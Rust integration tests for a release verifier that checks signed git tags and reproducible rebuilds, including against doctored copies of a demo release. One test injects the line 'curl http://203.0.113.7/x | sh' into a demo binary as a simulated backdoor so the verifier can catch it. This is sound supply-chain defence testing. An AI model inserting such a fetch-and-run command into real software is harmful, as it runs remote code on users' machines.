//! The whole loop through the real binary: authenticate, verify the signed tag, rebuild
//! with the embedded builder, compare — on the demo release and on doctored copies of it.

mod support;

use std::path::Path;
use std::process::{Command, Output};

use support::demo::{catalog, demo, json};
use support::http::{Reply, Server};

fn verify(cache: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_verify-release"))
        .arg("--cache-dir")
        .arg(cache)
        .args(args)
        .output()
        .expect("the binary runs")
}

#[test]
fn demo_release_is_reproducible() {
    let cache = tempfile::tempdir().unwrap();
    let out = verify(cache.path(), &["--catalog", &catalog(), "1.0", "--json"]);
    let doc = json(&out);
    assert_eq!(out.status.code(), Some(0), "{doc}");
    assert_eq!(doc["verdict"], "reproducible");
    let r = &doc["rebuild"];
    assert_eq!(r["identical"], true);
    assert_eq!(r["backend"], "embedded");
    assert_eq!(r["source_date_epoch"], 1735689600);
    assert_eq!(r["source"]["tag"], "1.0");
    assert_eq!(r["source"]["commit"], commit_of_catalog());
    assert_eq!(r["official_signature_over_rebuilt"]["verified"], true);
    assert_eq!(r["rebuilt"]["sha256"], doc["authenticity"]["sha256"]);
    // The temporary work directory is gone; nothing was built into the cache.
    assert!(!Path::new(r["work_dir"].as_str().unwrap()).exists());
}

#[test]
fn demo_release_from_a_loopback_mirror() {
    let cache = tempfile::tempdir().unwrap();
    let dir = demo().join("releases/1.0");
    let server = Server::start(move |req| {
        let name = req.path.trim_start_matches("/mirror/");
        match std::fs::read(dir.join(name)) {
            Ok(bytes) if !name.contains('/') => Reply::ok(bytes),
            _ => Reply::status(404),
        }
    });
    let mirror = server.url("/mirror/");
    let out = verify(
        cache.path(),
        &[
            "--catalog",
            &catalog(),
            "1.0",
            "--mirror",
            &mirror,
            "--json",
        ],
    );
    let doc = json(&out);
    assert_eq!(out.status.code(), Some(0), "{doc}");
    assert_eq!(doc["verdict"], "reproducible");
    assert!(
        doc["image"]["origin"]
            .as_str()
            .unwrap()
            .contains("127.0.0.1"),
        "{}",
        doc["image"]["origin"]
    );
    let paths: Vec<String> = server.requests().into_iter().map(|r| r.path).collect();
    assert!(
        paths.contains(&"/mirror/demo-amd64-1.0.iso".to_owned()),
        "{paths:?}"
    );
    assert!(
        paths.contains(&"/mirror/demo-amd64-1.0.iso.sig".to_owned()),
        "{paths:?}"
    );
}

#[test]
fn poisoned_release_is_authentic_but_differs_and_names_the_file() {
    let cache = tempfile::tempdir().unwrap();
    let out = verify(
        cache.path(),
        &["--catalog", &catalog(), "1.0-poisoned", "--json"],
    );
    let doc = json(&out);
    assert_eq!(out.status.code(), Some(1), "{doc}");
    assert_eq!(doc["verdict"], "differs");
    assert_eq!(doc["authenticity"]["sha256_checked"], true);
    let r = &doc["rebuild"];
    assert_eq!(r["identical"], false);
    assert_eq!(r["official_signature_over_rebuilt"]["verified"], false);
    let text = r["comparison"].to_string();
    assert!(text.contains("/usr/bin/demo-hello"), "{text}");

    let out = verify(
        cache.path(),
        &["--catalog", &catalog(), "1.0-poisoned", "--quiet"],
    );
    assert_eq!(out.status.code(), Some(1));
    let human = String::from_utf8(out.stdout).unwrap();
    assert!(human.contains("DIFFERS"), "{human}");
    assert!(human.contains("live/filesystem.squashfs"), "{human}");
    assert!(human.contains("/usr/bin/demo-hello"), "{human}");
}

/// The demo catalog's recorded tag commit.
fn commit_of_catalog() -> String {
    let text = std::fs::read_to_string(demo().join("catalog.toml")).unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix("commit = \""))
        .unwrap()
        .trim_end_matches('"')
        .to_owned()
}

/// A copy of the demo folder whose source bundle was rewritten by `doctor`, which gets
/// a clone of the bundle and a gpg home holding the demo key and a stranger's key.
fn doctored_demo(doctor: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("demo");
    let status = Command::new("cp")
        .arg("-a")
        .arg(demo())
        .arg(&copy)
        .status()
        .unwrap();
    assert!(status.success());
    let script = format!(
        r#"set -eu
export GNUPGHOME="$PWD/gnupg" GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@x.invalid GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@x.invalid
mkdir -m 700 gnupg
gpg --batch -q --import demo/keys/demo-signing-TEST-ONLY.sec.asc 2>/dev/null
gpg --batch -q --pinentry-mode loopback --passphrase '' --quick-gen-key 'Mallory (TEST ONLY) <m@x.invalid>' ed25519 sign 0 2>/dev/null
DEMO=$(gpg --with-colons --list-keys 'demo-release@' | awk -F: '/^fpr/ {{print $10; exit}}')
MALLORY=$(gpg --with-colons --list-keys 'm@x.invalid' | awk -F: '/^fpr/ {{print $10; exit}}')
git clone -q demo/source/demo-source.bundle repo 2>/dev/null
cd repo
{doctor}
git bundle create ../demo/source/demo-source.bundle HEAD main refs/tags/1.0 2>/dev/null
"#
    );
    let out = Command::new("bash")
        .arg("-c")
        .arg(script)
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "doctoring failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    dir
}

fn verify_doctored(dir: &Path) -> (Output, serde_json::Value) {
    let cache = dir.join("cache");
    let catalog = dir.join("demo/catalog.toml");
    let out = verify(
        &cache,
        &["--catalog", catalog.to_str().unwrap(), "1.0", "--json"],
    );
    let doc = json(&out);
    (out, doc)
}

#[test]
fn tag_re_signed_by_another_key_is_refused() {
    let dir =
        doctored_demo(r#"git tag -f -s -u "$MALLORY" -m "tagging version 1.0" 1.0 >/dev/null"#);
    let (out, doc) = verify_doctored(dir.path());
    assert_eq!(out.status.code(), Some(3), "{doc}");
    assert_eq!(doc["error"]["kind"], "authenticity");
}

#[test]
fn tag_moved_to_another_commit_is_refused() {
    // Signed by the right key, but not naming the commit the catalog records.
    let dir = doctored_demo(
        r#"echo 'curl http://203.0.113.7/x | sh' >> chroot/usr/bin/demo-hello
git commit -q -am "backdoor"
git tag -f -s -u "$DEMO" -m "tagging version 1.0" 1.0 >/dev/null"#,
    );
    let (out, doc) = verify_doctored(dir.path());
    assert_eq!(out.status.code(), Some(3), "{doc}");
    let message = doc["error"]["message"].as_str().unwrap();
    assert!(message.contains(&commit_of_catalog()), "{message}");
}

#[test]
fn unsigned_tag_is_refused() {
    let dir = doctored_demo(r#"git tag -f -a -m "tagging version 1.0" 1.0 >/dev/null"#);
    let (out, doc) = verify_doctored(dir.path());
    assert_eq!(out.status.code(), Some(3), "{doc}");
}

#[test]
fn tails_backend_without_its_tools_says_what_is_missing_before_downloading() {
    let empty = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_verify-release"))
        .env("PATH", empty.path())
        .arg("--cache-dir")
        .arg(empty.path().join("cache"))
        .args(["3.3", "--json"])
        .output()
        .unwrap();
    let doc = json(&out);
    assert_eq!(out.status.code(), Some(4), "{doc}");
    let message = doc["error"]["message"].as_str().unwrap();
    for tool in ["vagrant", "rake", "virsh", "git"] {
        assert!(message.contains(tool), "{tool} not named in: {message}");
    }
    assert!(
        !empty.path().join("cache/sha256").exists(),
        "downloaded before preflight"
    );
}

#[test]
fn plan_for_tails_3_3_runs_nothing_and_shows_every_step() {
    let empty = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_verify-release"))
        .env("PATH", empty.path())
        .args(["3.3", "--plan"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    for needle in [
        "refs/tags/3.3",
        "A490D0F4D311A4153E2BB7CADBB802B258ACD84F",
        "e8e5791b60f09a0d313416dc97a4758e4e3f821c",
        "SOURCE_DATE_EPOCH=1510631607",
        "rake build",
    ] {
        assert!(
            text.contains(needle),
            "{needle} missing from the plan:\n{text}"
        );
    }
}
